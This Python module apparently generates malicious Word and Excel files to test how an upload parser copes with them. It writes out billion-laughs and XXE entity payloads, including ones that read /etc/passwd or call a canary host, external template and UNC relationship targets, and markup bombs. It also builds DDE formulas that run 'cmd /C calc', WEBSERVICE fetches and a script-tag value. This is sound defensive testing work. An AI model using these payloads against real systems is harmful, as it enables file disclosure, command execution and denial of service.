"""Parts of office files that are well packed and mean harm: entities, fetches, bombs of markup."""

import re
from collections.abc import Callable
from random import Random

from eval.uploads.archives import DOCUMENT, SHEET, changed, main_part, members, packed
from eval.uploads.seeds import workbook

_ROOT = re.compile(rb"<\?xml[^>]*\?>")
_SHEET = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
_BODY = (
    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
)
_FORMULAS = (
    '=HYPERLINK("http://{canary}/a","看")',
    '=WEBSERVICE("http://{canary}/b")',
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    "='http://{canary}/[b.xlsx]S'!A1",
    '=IMPORTXML("http://{canary}/c","//a")',
    '+SUM(1)*cmd|"/C calc"!A0',
    "@SUM(A1)",
    "=A1:XFD1048576",
    "=" + "(" * 3000,
)


def with_entities(content: bytes, chance: Random, canary: str) -> bytes:
    """Billion laughs, quadratic blowup, external entities and document types."""
    laughs = b"".join(
        b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10 if n else b"ha" * 20) for n in range(10)
    )
    at = canary.encode()
    declared = chance.choice(
        (
            b"<!DOCTYPE a [" + laughs + b"]>",
            b'<!DOCTYPE a [<!ENTITY l9 "' + b"A" * 60_000 + b'">]>',
            b'<!DOCTYPE a [<!ENTITY l9 SYSTEM "file:///etc/passwd">]>',
            b'<!DOCTYPE a [<!ENTITY l9 SYSTEM "http://' + at + b'/xxe">]>',
            b'<!DOCTYPE a [<!ENTITY % p SYSTEM "http://' + at + b'/dtd"> %p;]>',
            b'<!DOCTYPE a SYSTEM "http://' + at + b'/a.dtd">',
            b'<!DOCTYPE a PUBLIC "-//a//b" "http://' + at + b'/b.dtd">',
        )
    )
    name = chance.choice(
        [one for one, _ in members(content) if one.endswith((".xml", ".rels"))]
        + [main_part(content)] * 4
    )
    # Far behind the beginning, in other encodings: where a look at the first bytes sees nothing.
    padding = b" " * chance.choice((0, 0, 100_000))
    encoding = chance.choice(("utf-8", "utf-8", "utf-16", "utf-7"))

    def change(data: bytes) -> bytes:
        rest = _ROOT.sub(b"", data, count=1)
        rest = re.sub(rb">([^<]+)<", b">&l9;<", rest, count=1)
        head = b'<?xml version="1.0" encoding="%s"?>' % encoding.encode()
        text = (head + padding + declared + rest).decode("utf-8")
        return text.encode(encoding) if encoding != "utf-7" else text.encode()

    return changed(content, name, change)


def fetching(content: bytes, chance: Random, canary: str) -> bytes:
    """Relations to a server: templates, frames, images, links, other workbooks."""
    kind = chance.choice(
        ("attachedTemplate", "oleObject", "frame", "subDocument", "image", "hyperlink",
         "externalLinkPath", "customXml", "styles", "sharedStrings")
    )  # fmt: skip
    target = chance.choice(
        (
            f"http://{canary}/t.dotm",
            f"\\\\{canary}\\t",
            f"file:////{canary}/t",
            "file:///etc/passwd",
        )
    )
    mode = chance.choice((' TargetMode="External"', ""))
    relation = (
        '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships/{kind}" Target="{target}"{mode}/></Relationships>'
    ).encode()
    name = chance.choice([one for one, _ in members(content) if one.endswith(".rels")])
    return changed(content, name, lambda data: data.replace(b"</Relationships>", relation))


def deep(content: bytes, chance: Random, _: str) -> bytes:
    """Elements in elements, thousands of times."""
    depth = chance.choice((300, 5_000, 200_000))
    tag = b"w:ins" if main_part(content) == DOCUMENT else b"c"
    nested = b"<%s>" % tag * depth + b"</%s>" % tag * depth
    if tag == b"c":
        data = _SHEET + b"<sheetData><row>" + nested + b"</row></sheetData></worksheet>"
    else:
        data = _BODY + b"<w:p>" + nested + b"</w:p></w:body></w:document>"
    return changed(content, main_part(content), lambda _: data)


def crowded(content: bytes, chance: Random, _: str) -> bytes:
    """As much markup as the limits of an archive let through."""
    megabytes = chance.choice((5, 20, 50))
    if main_part(content) == DOCUMENT:
        one = chance.choice(
            (b"<w:p/>", b"<w:p><w:r><w:t>1</w:t></w:r></w:p>", b"<w:tbl/>", b"<a/>")
        )
        data = _BODY + one * (megabytes * 1_000_000 // len(one)) + b"</w:body></w:document>"
    else:
        one = chance.choice(
            (b"<c><v>1</v></c>", b"<c/>", b'<c t="inlineStr"><is><t>a</t></is></c>')
        )
        cells = one * 200
        row = b"<row>" + cells + b"</row>"
        data = (
            _SHEET + b"<sheetData>" + row * (megabytes * 1_000_000 // len(row))
            + b"</sheetData></worksheet>"
        )  # fmt: skip
    # Beside bytes that do not shrink, so that the ratio stays within limits.
    noise = chance.randbytes(megabytes * 10_000)
    crowd = changed(content, main_part(content), lambda _: data)
    return packed([*members(crowd), ("docProps/noise.bin", noise)])


def many_attributes(content: bytes, chance: Random, _: str) -> bytes:
    """An element with a hundred thousand attributes or namespaces, or a name of a megabyte."""
    attributes = chance.choice(
        (
            b"".join(b' a%d="1"' % n for n in range(100_000)),
            b"".join(b' xmlns:a%d="u%d"' % (n, n) for n in range(20_000)),
            b' a="' + b"x" * 15_000_000 + b'"',
        )
    )
    tag = b"w:body" if main_part(content) == DOCUMENT else b"sheetData"
    noise = chance.randbytes(200_000)
    spoilt = changed(
        content,
        main_part(content),
        lambda data: data.replace(b"<" + tag, b"<" + tag + attributes, 1),
    )
    return packed([*members(spoilt), ("docProps/noise.bin", noise)])


def shared_strings(content: bytes, chance: Random, _: str) -> bytes:
    """A table of strings of tens of megabytes, or one string of ten."""
    if main_part(content) == DOCUMENT:
        return deep(content, chance, "")
    head = b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">'
    item = b"<si><t>%s</t></si>"
    strings = chance.choice(
        (item % b"a" * 1_000_000, item % (b"\xe4\xb8\x80" * 3_500_000), item % b"" * 1_500_000)
    )
    noise = chance.randbytes(400_000)
    own = [
        (name, head + strings + b"</sst>" if name == "xl/sharedStrings.xml" else data)
        for name, data in members(content)
    ]
    return packed([*own, ("docProps/noise.bin", noise)])


def far_cells(_: bytes, chance: Random, canary: str) -> bytes:
    """A sheet that says it is as large as one can be: cells, areas, columns, dimensions."""
    place = chance.choice(("XFD1048576", "A1048576", "XFD1", "KN20001"))
    content = workbook({place: 1})
    if chance.random() < 0.5:
        content = changed(
            content,
            SHEET,
            lambda data: re.sub(rb'ref="[^"]*"', b'ref="A1:XFD1048576"', data, count=1),
        )
    return content if canary else b""


def merged(_: bytes, chance: Random, canary: str) -> bytes:
    """Areas as large as a sheet, thousands of them, over each other."""
    areas = chance.choice(
        (
            b'<mergeCell ref="A1:XFD1048576"/>',
            b"".join(b'<mergeCell ref="A%d:KN%d"/>' % (n, n + 5000) for n in range(6, 5000)),
            b"".join(b'<mergeCell ref="B2:C3"/>' for _ in range(50_000)),
            b'</mergeCells><hyperlinks><hyperlink ref="A1:XFD1048576"/></hyperlinks><mergeCells>',
            b'<mergeCell ref="B2:A1"/><mergeCell ref=""/><mergeCell ref="ZZZZ9"/>',
        )
    )
    content = workbook({"KN5000": 1} if len(areas) > 100 else {})
    cells = b"<mergeCells>" + areas + b"</mergeCells></worksheet>"
    broken = changed(
        content, SHEET,
        lambda data: re.sub(rb"<pageMargins.*</worksheet>", cells, data, flags=re.DOTALL),
    )  # fmt: skip
    return broken if canary else b""


def formulas(_: bytes, chance: Random, canary: str) -> bytes:
    """Formulas that would call something if anybody calculated them."""
    cells: dict[str, object] = {
        f"{chance.choice('BCDEFG')}{row}": chance.choice(_FORMULAS).format(canary=canary)
        for row in range(2, 9)
    }
    return workbook(cells)


def odd_values(_: bytes, chance: Random, canary: str) -> bytes:
    """Numbers and names in the cells that no table holds."""
    values = ("1e999999", "9" * 400, "-" + "9" * 400, "1e-999999", "NaN", "Infinity", "１" * 300,
              "一" * 300, "1/0", "0/0", "百亿" * 200, "\u202e甲", "a" * 32_000, "=1+1", "2024-99-99",
              "{{工业投资}}", "<script>alert(1)</script>", "%s%n", "_x0000_", "1e5000", "9e307")  # fmt: skip
    cells: dict[str, object] = {
        f"{chance.choice('ABCDEFG')}{row}": chance.choice(values) for row in range(1, 9)
    }
    content = workbook(cells)
    number = chance.choice((b"1e999", b"-1e999", b"nan", b"9" * 400, b"1e999999", b"0x10", b"1_0"))
    shaped = changed(content, SHEET, lambda data: data.replace(b"208.6", number))
    return shaped if canary else b""


def odd_formats(_: bytes, chance: Random, canary: str) -> bytes:
    """Number formats that would print for ever."""
    written = chance.choice(
        ("0" * 30_000, "0." + "0" * 30_000, "#," * 10_000, "%" * 5_000, "[" * 9_000, '"' * 3_001,
         "[>1e999]0;0", "0/" + "9" * 4_000, "y" * 9_000, "?/" + "?" * 300, "0E+" + "0" * 999)
    ).replace("&", "").replace('"', "&quot;").replace(">", "&gt;")  # fmt: skip
    content = workbook({})
    style = (
        b'<numFmts count="1"><numFmt numFmtId="200" formatCode="'
        + written.encode()
        + b'"/></numFmts>'
    )

    def styled(data: bytes) -> bytes:
        data = re.sub(rb"<numFmts[^>]*/>|<numFmts.*?</numFmts>", b"", data, flags=re.DOTALL)
        data = data.replace(b"<fonts", style + b"<fonts", 1)
        return re.sub(rb'(<cellXfs[^>]*><xf numFmtId=)"0"', rb'\1"200"', data)

    content = changed(content, "xl/styles.xml", styled)
    return content if canary else b""


ON_BOTH: tuple[Callable[[bytes, Random, str], bytes], ...] = (
    with_entities,
    fetching,
    deep,
    crowded,
    many_attributes,
)
ON_WORKBOOKS = (shared_strings, far_cells, merged, formulas, odd_values, odd_formats)
